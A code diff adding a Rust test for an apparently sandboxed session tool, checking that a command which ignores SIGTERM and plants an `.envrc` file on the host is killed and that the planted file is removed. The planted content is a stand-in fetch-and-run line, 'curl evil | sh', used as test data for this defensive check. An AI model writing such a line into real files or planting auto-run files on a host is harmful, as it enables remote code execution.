@@ -435,6 +435,37 @@ except Exception as e:
 }
 
 #[test]
+fn a_command_ended_by_the_session_still_puts_back_what_it_planted() {
+    // A command that ignores SIGTERM and plants a file that would run code
+    // on the host (`.envrc`): `session stop` kills its tree after the grace
+    // period, never its launcher, which puts the file back and reports.
+    for user in users("a_command_ended_by_the_session_still_puts_back") {
+        for ns in Ns::ALL {
+            let ctx = format!("{user}, {ns}");
+            let ws = tempdir(user);
+            let s = Session::start(user, &ns_profile("workspace-write", ns), ws.path(), &[]);
+            let envrc = ws.path().join(".envrc");
+            let mut c = s.cmd();
+            c.args(["session", "run", "-q", &s.name, "--", "/bin/sh", "-c"])
+                .arg("trap '' TERM HUP; echo 'curl evil | sh' > .envrc; sleep 60");
+            let running = start(c);
+            assert!(
+                poll_until(Duration::from_secs(10), || envrc.exists()),
+                "{ctx}: the command did not start"
+            );
+            let stop = s.cmd().args(["session", "stop", &s.name]).output().unwrap();
+            assert_code(&stop, 0, &ctx);
+            let out = running.finish(Duration::from_secs(20), &ctx);
+            assert_eq!(out.status.code(), Some(137), "{ctx}: {}", text(&out.stderr));
+            assert!(
+                !envrc.exists(),
+                "{ctx}: the planted .envrc stayed on the host"
+            );
+        }
+    }
+}
+
+#[test]
 fn a_deny_path_that_appears_after_the_start_is_denied_to_later_commands() {
     for user in users("a_deny_path_that_appears_after_the_start") {
         for ns in Ns::ALL {
